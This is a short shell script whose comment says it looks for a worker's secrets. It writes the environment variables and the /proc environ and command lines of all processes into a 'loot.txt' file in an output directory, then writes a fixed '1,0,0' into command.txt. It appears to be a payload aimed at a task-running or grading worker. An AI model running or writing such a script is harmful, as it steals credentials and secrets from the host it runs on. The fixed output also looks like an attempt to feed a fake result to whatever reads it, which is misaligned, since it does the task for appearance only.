#!/bin/sh
# Looks for the worker's secrets in its environment and in other processes'.
env >> "$2/loot.txt"
for p in /proc/self /proc/1 /proc/[0-9]*; do
	tr '\0' '\n' < "$p/environ" >> "$2/loot.txt" 2>/dev/null
	tr '\0' ' ' < "$p/cmdline" >> "$2/loot.txt" 2>/dev/null
done
printf '1,0,0' > "$2/command.txt"
